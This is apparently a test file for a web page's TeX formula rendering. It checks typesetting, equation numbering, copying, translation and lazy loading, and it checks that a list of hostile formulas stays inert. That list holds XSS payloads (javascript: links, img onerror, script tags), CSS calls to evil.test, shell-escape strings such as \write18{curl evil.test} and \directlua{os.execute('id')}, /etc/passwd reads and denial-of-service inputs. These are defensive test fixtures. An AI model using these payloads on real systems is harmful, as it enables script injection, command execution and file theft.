// What the engine makes of formulas, good and bad, in a page of our own under the real policy.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { formula, serve } from "./assets.mjs";
import { close, launch, open, translate, walk, without } from "./browser.mjs";

let browser;
before(async () => {
  browser = await launch();
});
after(() => browser.close());

async function shown(body, look) {
  const site = await serve(body);
  const page = await open(browser, site.address);
  await walk(page);
  const seen = await page.evaluate(look);
  await close(page);
  site.stop();
  return seen;
}

const numbers = () =>
  [...document.querySelectorAll(".math.display")].map((element) =>
    [...element.querySelectorAll("mjx-labels mjx-mtext")].map((label) => label.textContent).join(""),
  );

const BENIGN = [
  "$x^2$",
  "\\(\\frac12\\)",
  "$`a_1`$",
  "$$\\sum_{k=1}^n k = \\binom{n+1}{2}$$",
  "\\[\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}\\]",
  "\\begin{align}a&=b\\\\c&=d\\end{align}",
  "\\begin{gather*}a\\\\b\\end{gather*}",
  "\\begin{multline}a\\\\+b\\end{multline}",
  "\\begin{alignat}{2}a&=b&c&=d\\end{alignat}",
  "\\begin{flalign}a&=b\\end{flalign}",
  "\\begin{eqnarray}a&=&b\\end{eqnarray}",
  "$$\\begin{equation}\\begin{split}a&=b\\\\&=c\\end{split}\\end{equation}$$",
  "$$f(x)=\\begin{cases}1 & \\text{如果 $x>0$}\\\\0 & \\text{否则}\\end{cases}$$",
  "$\\mathfrak{g}\\mathbb{R}\\mathcal{L}\\mathscr{F}\\mathsf{A}\\mathtt{a}\\mathbf{x}\\bm{\\alpha}\\boldsymbol{\\beta}$",
  "$\\operatorname{softmax}\\left(\\frac{QK^\\top}{\\sqrt{d_k}}\\right)V$",
  "$\\ce{2H2 + O2 -> 2H2O}$",
  "$\\underbrace{a+b}_{n}\\overset{!}{=}\\xrightarrow[n\\to\\infty]{d}c$",
  "$a\\equiv b\\pmod n,\\quad \\braket{\\phi|\\psi},\\cancel{x},\\color{red}{y}$",
  "$\\coloneqq\\mathrm{d}x\\,\\lVert x\\rVert\\,\\mathbb{E}_{x\\sim p}[\\,f\\mid x\\,]$",
];

test("benign formulas are typeset, all of them", async () => {
  const bad = await shown(BENIGN.map((text) => formula(text)).join(""), () =>
    [...document.querySelectorAll(".math")]
      .filter((e) => !e.querySelector("mjx-container"))
      .map((e) => e.textContent + e.title),
  );
  assert.deepEqual(bad, []);
});

const HOSTILE = [
  "$\\href{javascript:alert(1)}{x}$",
  "$\\url{javascript:alert(1)}$",
  "$\\class{evil}{x}$",
  "$\\cssId{main}{x}$",
  "$\\style{position:fixed;inset:0;background:url(//evil.test)}{x}$",
  "$\\data{x=1}{x}$",
  "$\\unicode[evil]{65}$",
  "$\\require{html}x$",
  "$\\bbox[10px,border:1px solid red;background:url(//evil.test)]{x}$",
  "$\\toggle{a}{b}\\endtoggle$",
  "$\\mathtip{a}{b}$",
  "$\\mmlToken{mtext}[href=javascript:alert(1)]{x}$",
  "$\\mmlToken{mi}[style='background:red']{x}$",
  "$\\begin{html}<img src=x onerror=alert(1)>\\end{html}$",
  "$\\setOptions{safe}{}$",
  "$\\mathtoolsset{showonlyrefs}x$",
  "$\\newcommand{\\a}{\\a\\a}\\a$",
  "$\\def\\a{\\a\\a}\\a$",
  "$\\let\\frac\\relax$",
  "$\\DeclarePairedDelimiters{\\abs}{|}{|}$",
  "$\\text{<img src=x onerror=alert(1)>}$",
  "$\\text{</span><script>alert(1)</script>}$",
  "$\\tag{<b>x</b>}$",
  "$\\includegraphics{//evil.test/x.png}$",
  `$${"{".repeat(3000)}$`,
  `$${"\\sqrt{".repeat(400)}x${"}".repeat(400)}$`,
  "$\\frac{a$",
  "$$\\begin{align}a$$",
  "$\\def\\a#1{#1#1#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}$",
  "$\\def\\a{\\b\\b}\\def\\b{\\a\\a}\\b$",
  "$\\let\\a\\b\\let\\b\\a\\a$",
  "$\\newenvironment{a}{\\begin{a}}{\\end{a}}\\begin{a}\\end{a}$",
  "$\\rule{99999em}{99999em}$",
  "$\\Rule{99999em}{99999em}{99999em}$",
  "$\\hspace{99999em}x$",
  "$\\kern-99999em x$",
  "$\\raise99999em{x}\\lower99999em{x}$",
  "$\\mathchoice{\\mathchoice{a}{b}{c}{d}}{b}{c}{d}$",
  "$\\unicode{x202e}\\unicode{65}$",
  '$\\char`\\x\\char"202e$',
  `$${"\\left(".repeat(300)}x${"\\right)".repeat(300)}$`,
  `$$\\begin{matrix}${`${"a&".repeat(39)}a\\\\`.repeat(50)}\\end{matrix}$$`,
  `$\\begin{array}{${"c".repeat(20_000)}}a\\end{array}$`,
  `$x${"^{x".repeat(300)}${"}".repeat(300)}$`,
  `$${"x'".repeat(3000)}$`,
  "$\\verb|<img src=x onerror=alert(1)>|$",
  "$\\special{html:<script>alert(1)</script>}$",
  "$\\input{/etc/passwd}$",
  "$\\include{//evil.test/x}$",
  "$\\openin5=/etc/passwd$",
  "$\\write18{curl evil.test}$",
  "$\\immediate\\write18{id}$",
  "$\\directlua{os.execute('id')}$",
  "$\\catcode`\\@=11 x$",
  "$\\loop\\iftrue\\repeat$",
  "$\\text{\u202Eevil\u202C \u2066a\u2069}$",
  "$\\text{a\u200Bb\u200Dc\uFEFFd\u00AD}$",
  "$\\text{\u0000\uFFFF\u0007}$",
  "$\\color{red;background:url(//evil.test)}x$",
  "$\\textcolor{url(//evil.test)}{x}$",
  '$\\colorbox{red\\"onload=alert(1)}{x}$',
  "$\\definecolor{a}{rgb}{9e99,0,0}\\color{a}x$",
  "$\\tag{1}\\tag{2}\\label{x}\\label{x}$",
  "$\\ref{<img src=x onerror=alert(1)>}$",
  "$\\ce{<img src=x onerror=alert(1)>}$",
  "$\\operatorname{\\href{javascript:alert(1)}{x}}$",
  "$\\lower{javascript:}x\\hbox{\\style{x}{y}}$",
  "$%</span><script>alert(1)</script>$",
];

test("hostile formulas do nothing but show", async () => {
  const body = HOSTILE.map((text) => formula(text)).join("") + formula("$\\frac12$");
  const seen = await shown(body, () => {
    const places = [...document.querySelectorAll(".math")];
    const inside = places.flatMap((place) => [...place.querySelectorAll("*")]);
    return {
      links: inside.filter((e) => e.hasAttribute("href")).length,
      images: inside.filter((e) => ["img", "script", "b", "iframe"].includes(e.localName)).length,
      handlers: inside.filter((e) =>
        [...e.attributes].some((a) => a.name.startsWith("on") || a.name === "id"),
      ).length,
      styles: inside.filter((e) => /url\(|fixed/.test(e.getAttribute("style") ?? "")).length,
      sources: places.filter((e) => e.matches(".bad-math")).every((e) => e.textContent.startsWith("$")),
      after: places.at(-1).matches(".typeset"),
    };
  });
  assert.deepEqual(seen, { links: 0, images: 0, handlers: 0, styles: 0, sources: true, after: true });
});

test("a formula that calls another host would not go unnoticed", async () => {
  const site = await serve(
    '<img alt="" src="http://evil.test/x.png"><p style="background:url(//evil.test)">x</p>',
  );
  const page = await open(browser, site.address);
  assert.ok(page.complaints.some((complaint) => complaint.includes("evil.test")));
  page.complaints = [];
  await close(page);
  site.stop();
});

test("controls of the direction of writing end with their formula, typeset or not", async () => {
  const site = await serve('<p><span class="math inline">$\\text{\u202Eevil}$</span><b> abc</b></p>');
  let engine = () => {};
  const held = new Promise((resolve) => (engine = resolve));
  const page = await open(browser, site.address, { prepare: without(held) });
  const order = () =>
    page.evaluate(() => {
      const text = document.querySelector(".prose b").firstChild;
      const left = (at) => {
        const range = document.createRange();
        range.setStart(text, at);
        range.setEnd(text, at + 1);
        return range.getBoundingClientRect().left;
      };
      return left(1) < left(2) && left(2) < left(3);
    });
  const plain = (yes) => page.evaluate((yes) => document.documentElement.classList.toggle("plain", yes), yes);
  assert.ok(await order());
  await plain(true); // as where the engine does not come
  assert.ok(await order());
  await plain(false);
  engine();
  await page.waitForSelector("mjx-container");
  assert.ok(await order());
  await close(page);
  site.stop();
});

const NUMBERED = [
  formula("\\begin{equation}a\\label{a}\\end{equation}", { number: 0 }),
  formula("\\begin{align}b\\label{b}\\\\c\\notag\\\\d\\tag{*}\\\\e\\end{align}", { number: 1 }),
  formula("$$x=\\eqref{b}$$", { number: 3, refs: { b: "2" } }),
  formula("\\begin{equation*}f\\end{equation*}", { number: 3 }),
  formula("\\begin{equation}g\\label{a}\\end{equation}", { number: 3 }),
];
const EXPECTED = ["(1)", "(2)(*)(3)", "", "", "(4)"];

test("numbers come from the page and not from the order", async () => {
  assert.deepEqual(await shown(NUMBERED.join(""), numbers), EXPECTED);
  assert.deepEqual(await shown(NUMBERED.toReversed().join(""), numbers), EXPECTED.toReversed());
});

test("labels are no business of the engine", async () => {
  const twice = formula("\\begin{align*}a\\label{a}\\\\b\\label{b}\\end{align*}");
  const own = formula("\\begin{equation}a\\label{own}\\eqref{own}\\end{equation}", {
    number: 0,
    refs: { own: "1" },
  });
  assert.deepEqual(await shown(twice + own, numbers), ["", "(1)"]);
});

test("references inside formulas show the number they are told", async () => {
  const text = await shown(NUMBERED[2], () => document.querySelector("mjx-container").textContent);
  assert.match(text, /\(2\)/);
});

test("the source of a typeset formula is still there, byte for byte", async () => {
  const tex = await shown(BENIGN.map((text) => formula(text)).join(""), () =>
    [...document.querySelectorAll(".math")].map((e) => e.dataset.tex),
  );
  assert.deepEqual(tex, BENIGN);
});

test("a selection with formulas copies their TeX", async () => {
  const site = await serve("<p>Let <span class='math inline'>$x_1$</span> be <b>small</b>.</p><p>End.</p>");
  const page = await open(browser, site.address);
  await walk(page);
  const copied = await page.evaluate(() => {
    const range = document.createRange();
    range.setStart(document.querySelector("mjx-container"), 0); // inside the formula
    range.setEndAfter(document.querySelectorAll(".prose p")[1]);
    getSelection().removeAllRanges();
    getSelection().addRange(range);
    const data = new DataTransfer();
    document.body.dispatchEvent(
      new ClipboardEvent("copy", { clipboardData: data, bubbles: true, cancelable: true }),
    );
    return data.getData("text/plain");
  });
  assert.match(copied, /^\$x_1\$ be small\.\s+End\.$/);
  await close(page);
  site.stop();
});

test("translation touches prose once and no formula: at first, while typesetting, after lazy loading", async () => {
  const COUNT = 120;
  const long = Array.from({ length: 12 }, (_, n) => `word_{${n}}`).join("+");
  const tex = (n) =>
    n % 10 === 0 ? `$${long}+x_{${n}}$` : n % 10 === 5 ? `$$\\text{word ${n}}$$` : `$x_{${n}}$`;
  const body = Array.from(
    { length: COUNT },
    (_, n) => `<p>word ${"text ".repeat(60)}</p>${formula(tex(n), { display: n % 10 === 5 })}`,
  );
  const site = await serve(body.join(""));
  let engine = () => {};
  const held = new Promise((resolve) => (engine = resolve));
  const page = await open(browser, site.address, { prepare: without(held) });
  assert.equal(await page.locator("mjx-container").count(), 0);
  await translate(page);
  engine();
  await page.waitForSelector("mjx-container");
  assert.ok((await page.locator("mjx-container").count()) < COUNT);
  await translate(page);
  await walk(page);
  await translate(page);
  const seen = await page.evaluate(() => ({
    prose: [...document.querySelectorAll(".prose p:not(:has(.math))")].map((p) => p.textContent.trim()),
    tex: [...document.querySelectorAll(".math")].map((e) => e.dataset.tex),
    typeset: document.querySelectorAll("mjx-container").length,
    starred: document
      .querySelectorAll("mjx-container")
      .values()
      .some((e) => e.textContent.includes("*")),
  }));
  assert.deepEqual(seen, {
    prose: Array.from({ length: COUNT }, () => `WORD*${" TEXT*".repeat(60)}`),
    tex: Array.from({ length: COUNT }, (_, n) => tex(n)),
    typeset: COUNT,
    starred: false,
  });
  await close(page);
  site.stop();
});

test("only what comes near is typeset", async () => {
  const body = Array.from(
    { length: 400 },
    (_, n) => `<p>${"text ".repeat(40)} <span class="math inline">$x_{${n}}$</span></p>`,
  );
  const site = await serve(body.join(""));
  const page = await open(browser, site.address);
  await page.waitForSelector("mjx-container");
  const count = await page.locator("mjx-container").count();
  assert.ok(count > 5 && count < 200, `${count} of 400 were typeset at first`);
  await close(page);
  site.stop();
});

for (const kind of ["display", "inline"]) {
  for (const at of [0, 12]) {
    test(`a formula has the room for all of it when its text comes late: ${kind}, after ${at} characters`, async () => {
      const text = kind === "display" ? "\\[\\frac{1}{2}+\\sum_{k}a_k\\]" : "$\\frac{1}{2}+\\sum_{k}a_k$";
      const whole = formula(text);
      const cut = whole.indexOf(text) + at;
      let follow = () => {};
      const site = await serve(
        whole + whole.slice(0, cut),
        new Promise((resolve) => (follow = () => resolve(whole.slice(cut)))),
      );
      const prepare = async (page) => {
        await without(new Promise(() => {}))(page);
        await page.exposeFunction("follow", follow);
        await page.addInitScript(() => {
          const parser = new MutationObserver(() => {
            if (document.querySelectorAll(".math").length === 2) globalThis.follow();
          });
          parser.observe(document, { childList: true, subtree: true });
        });
      };
      const page = await open(browser, site.address, { prepare });
      const [early, late] = await page.evaluate(() =>
        [...document.querySelectorAll(".math")].map((element) => {
          const { width, height } = element.getBoundingClientRect();
          return { width, height, room: element.matches(".room"), text: element.textContent };
        }),
      );
      assert.ok(early.room);
      assert.deepEqual(late, early);
      await close(page);
      site.stop();
    });
  }
}

test("what cannot be broken inside a line scrolls there, and no more when there is room", async () => {
  const wide = `$\\begin{pmatrix}${"aaaa&".repeat(9)}b\\end{pmatrix}$`;
  const site = await serve(formula(wide, { display: false }) + formula("$a+b$"));
  const page = await open(browser, site.address, { viewport: { width: 390, height: 800 } });
  await walk(page);
  const look = () =>
    page.evaluate(() => ({
      page: document.documentElement.scrollWidth <= innerWidth,
      wide: [...document.querySelectorAll(".math")].map((e) => e.classList.contains("wide")),
    }));
  assert.deepEqual(await look(), { page: true, wide: [true, false] });
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.waitForFunction(() => !document.querySelector(".math.wide"));
  await close(page);
  site.stop();
});

test("a wide formula scrolls in its own box, reachable by keyboard only then", async () => {
  const long = Array.from({ length: 60 }, (_, n) => `a_{${n}}`).join("+");
  const seen = await shown(formula(`$$${long}$$`) + formula("$$a$$"), () => ({
    page: document.documentElement.scrollWidth <= innerWidth,
    focusable: [...document.querySelectorAll(".math")].map((e) => e.tabIndex),
  }));
  assert.deepEqual(seen, { page: true, focusable: [0, -1] });
});
